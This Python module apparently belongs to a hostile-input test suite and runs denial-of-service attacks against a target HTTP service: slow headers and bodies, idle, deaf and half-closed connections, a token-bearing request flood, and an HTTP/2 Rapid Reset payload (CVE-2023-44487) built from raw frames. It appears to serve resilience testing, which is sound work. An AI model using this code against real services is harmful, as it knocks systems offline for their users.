"""Attacks by holding on: connections that are slow, idle, deaf, half closed or simply very many.

Each goes on until it is cancelled.
"""

from __future__ import annotations

import struct
from functools import partial
from typing import TYPE_CHECKING, Final

import trio

from jivsd.proof.hostile import shots
from jivsd.proof.hostile.shots import MEGABYTE, RUNS, STATUS, Shot, request
from jivsd.proof.hostile.wire import connected

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable, Iterator
    from random import Random

    from jivsd.proof.hostile.wire import Findings, Peer, Target

GUNNERS: Final = 6
"""How many shots of one kind are under way at once."""
FIRST: Final = 3.0
"""Seconds in which the first answer to a shot has to come."""
QUIET: Final = 0.3
"""Seconds without a word after which no more answers to a shot are waited for."""
PAUSE: Final = 0.05
"""Seconds before a connection that was refused is tried again."""
DRIP: Final = 1.0
"""Seconds between two bytes of those that are slow."""
HOLDERS: Final = 600
"""How many connections are held by those that are slow or deaf: more than the endpoint takes."""
FLOOD: Final = 64
"""How many callers ask as fast as they can."""


async def fire(
    kind: Callable[[Target, Random], Iterator[Shot]], target: Target, findings: Findings, random: Random
) -> None:
    """Fire shots of one kind, and judge all answers."""
    source = kind(target, random)
    async with trio.open_nursery() as nursery:
        for _ in range(GUNNERS):
            nursery.start_soon(_gunner, source, target, findings)


async def _gunner(source: Iterator[Shot], target: Target, findings: Findings) -> None:
    for shot in source:
        async with connected(target, findings) as peer:
            if peer is None:
                await trio.sleep(PAUSE)
                continue
            async with trio.open_nursery() as nursery:
                nursery.start_soon(peer.send, shot.data)
                await _answers(peer, findings, shot)
                nursery.cancel_scope.cancel()


async def _answers(peer: Peer, findings: Findings, shot: Shot) -> None:
    patience = FIRST
    while True:
        with trio.move_on_after(patience):
            patience = QUIET
            answer = await peer.answer(head_only=shot.data.startswith(b"HEAD"))
            if answer is not None:
                findings.judge(answer, shot.shown, trusted=shot.trusted)
                if answer.status in (0, 101):
                    return
                continue
        return


async def hold(
    one: Callable[[Peer, Target, Findings], Awaitable[None]], count: int, target: Target, findings: Findings, _: Random
) -> None:
    """Keep so many connections, on each of which the same is done; who is thrown out comes again."""

    async def holder(number: int) -> None:
        await trio.sleep(number / count)
        while True:
            async with connected(target, findings) as peer:
                if peer is not None:
                    await one(peer, target, findings)
            await trio.sleep(DRIP)

    async with trio.open_nursery() as nursery:
        for number in range(count):
            nursery.start_soon(holder, number)


async def _slow_headers(peer: Peer, target: Target, findings: Findings) -> None:
    await _drip(peer, request(target, b"GET " + STATUS, *[b"X-%d: y" % number for number in range(100)]))


async def _slow_body(peer: Peer, target: Target, findings: Findings) -> None:
    body = b'{"workflow":"bench","input":"' + b"x" * (MEGABYTE - 100)
    whole = request(target, b"POST " + RUNS, body=body, token=target.bearer)
    if await peer.send(whole[: len(whole) * 9 // 10]):
        await _drip(peer, b"x" * 1_000)


async def _drip(peer: Peer, data: bytes) -> None:
    """Send byte by byte until the other side has had enough."""

    async def drip() -> None:
        for byte in data:
            if not await peer.send(bytes([byte])):
                return
            await trio.sleep(DRIP)

    async with trio.open_nursery() as nursery:
        nursery.start_soon(drip)
        await peer.until_closed()
        nursery.cancel_scope.cancel()


async def _idle(peer: Peer, target: Target, findings: Findings) -> None:
    await peer.until_closed()


async def _deaf(peer: Peer, target: Target, findings: Findings) -> None:
    """Asks for much and reads nothing."""
    asked = [b"GET /openapi.json", b"GET " + RUNS + b"?limit=500", b"GET /metrics", b"GET /"]
    await peer.send(b"".join(request(target, line, token=target.bearer) for line in asked) * 50)
    await trio.sleep(15 * DRIP)


async def _half_closed(peer: Peer, target: Target, findings: Findings) -> None:
    await peer.send(request(target, b"GET /health/live"))
    try:
        await peer.stream.send_eof()
    except trio.BrokenResourceError:
        return
    if (answer := await peer.answer()) is not None:
        findings.judge(answer, "a half-closed connection", trusted=False)


async def _flood(peer: Peer, target: Target, findings: Findings) -> None:
    """Asks with a token as fast as answers come, for what takes long."""
    lines = [b"GET " + RUNS + b"?limit=200", b"GET " + STATUS, b"GET /metrics", b"GET /openapi.json", b"GET /health"]
    lines += [
        b"GET " + RUNS + more for more in (b"?status=FAILED", b"/steady:1", b"/steady:2/timeline", b"/steady:3/why")
    ]
    while True:
        for line in lines:
            if not await peer.send(request(target, line, token=target.bearer)):
                return
            answer = await peer.answer()
            if answer is None:
                return
            findings.judge(answer, repr(line), trusted=True)
            if b"\r\nconnection: close" in answer.head.lower():
                return


# ---- HTTP/2, which is not spoken here

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_SETTINGS: Final = b"\0\0\0\4\0\0\0\0\0"
_STREAMS: Final = 20_000


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _rapid_reset(target: Target) -> bytes:
    """Requests that are taken back at once, very many on one connection (CVE-2023-44487)."""
    head = b"\x82\x86\x84\x41" + bytes([len(target.place)]) + target.place  # GET http / :authority, in HPACK
    return b"".join(
        _frame(1, 5, stream, head) + _frame(3, 0, stream, b"\0\0\0\x08") for stream in range(1, 2 * _STREAMS, 2)
    )


def http2(target: Target, random: Random) -> Iterator[Shot]:
    """HTTP/2 as if it were known to be there, and asked for by an upgrade."""
    resets = _rapid_reset(target)
    upgrade = [b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA"]
    while True:
        yield Shot(_PREFACE + _SETTINGS + resets)
        yield Shot(request(target, b"GET " + STATUS, *upgrade) + _PREFACE + _SETTINGS + resets)
        yield Shot(request(target, b"GET /health/live", *upgrade) + _PREFACE + _SETTINGS + resets)
        yield Shot(_PREFACE[:16] + _SETTINGS)


def attacks(connections: int) -> dict[str, Callable[[Target, Findings, Random], Awaitable[None]]]:
    """All attacks by name; `connections`: how many idle ones are held."""
    return {
        "slow headers": partial(hold, _slow_headers, HOLDERS),
        "slow bodies": partial(hold, _slow_body, HOLDERS),
        "idle connections": partial(hold, _idle, connections),
        "deaf clients": partial(hold, _deaf, HOLDERS),
        "half-closed": partial(hold, _half_closed, HOLDERS),
        "HTTP/2": partial(fire, http2),
        "flood": partial(hold, _flood, FLOOD),
        **{name: partial(fire, kind) for name, kind in shots.ALL.items()},
    }
